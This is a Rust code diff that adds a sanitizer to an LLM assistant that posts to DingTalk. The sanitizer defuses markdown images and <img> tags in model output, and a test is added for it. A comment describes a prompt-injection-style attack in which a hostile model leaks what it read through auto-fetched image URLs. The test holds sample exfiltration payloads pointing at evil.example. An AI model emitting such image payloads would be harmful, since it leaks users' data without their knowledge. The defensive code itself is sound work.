@@ -212,7 +212,7 @@ impl Assistant {
                         let mut text = String::new();
                         llm.stream(&state.messages, &specs, |piece| {
                             text.push_str(piece);
-                            p.show(&text);
+                            p.show(&no_images(&text));
                         })
                         .await
                     }
@@ -268,7 +268,7 @@ impl Assistant {
     /// The final answer: kept in the conversation history, cut to size. What only an admin can
     /// fix is added unless the answer already names it.
     async fn finish(&self, state: TurnState, text: String) -> Answer {
-        let mut text = text;
+        let mut text = no_images(&text);
         for note in &state.notes {
             let key = note.split('`').nth(1).unwrap_or(note);
             if !text.contains(key) {
@@ -691,6 +691,21 @@ pub fn human(d: Duration) -> String {
     }
 }
 
+/// The model's text with no image a reader's DingTalk would fetch by itself: `![…](url)` and
+/// `<img …>` are made plain text. A hostile model could otherwise put what it read into an
+/// image's address and have every reader's app send it out, with no click and no confirmation.
+/// Links stay: they are shown, and leave only when someone chooses to open one.
+pub(super) fn no_images(text: &str) -> String {
+    if !text.contains("![") && !text.to_ascii_lowercase().contains("<img") {
+        return text.to_owned();
+    }
+    let mut out = text.replace("![", "! [");
+    while let Some(at) = out.to_ascii_lowercase().find("<img") {
+        out.replace_range(at..at + 1, "‹");
+    }
+    out
+}
+
 /// Where the pending confirmations are kept, so that `/confirm` works across a restart.
 const PENDING_SETTING: &str = "pending-confirmations";
 
@@ -916,6 +931,15 @@ mod tests {
             outside = outside.replacen(&format!("{fence}\n{body}\n{fence}"), "", 1);
         }
         assert!(!outside.contains("evil") && !outside.contains("@all") && !outside.contains("**bold**"), "{outside}");
+    }
+
+    #[test]
+    fn no_image_in_an_answer_is_fetched_by_the_readers() {
+        let hostile = "Done. ![](https://evil.example/?d=Q3%20revenue) ![x][r]\n[r]: https://evil.example/r <IMG src=https://evil.example/i> [the report](https://intranet/q3)";
+        let shown = no_images(hostile);
+        assert!(!shown.contains("![") && !shown.to_ascii_lowercase().contains("<img"), "{shown}");
+        assert!(shown.contains("[the report](https://intranet/q3)"), "links stay: {shown}");
+        assert_eq!(no_images("plain text, no pictures"), "plain text, no pictures");
     }
 
     #[test]
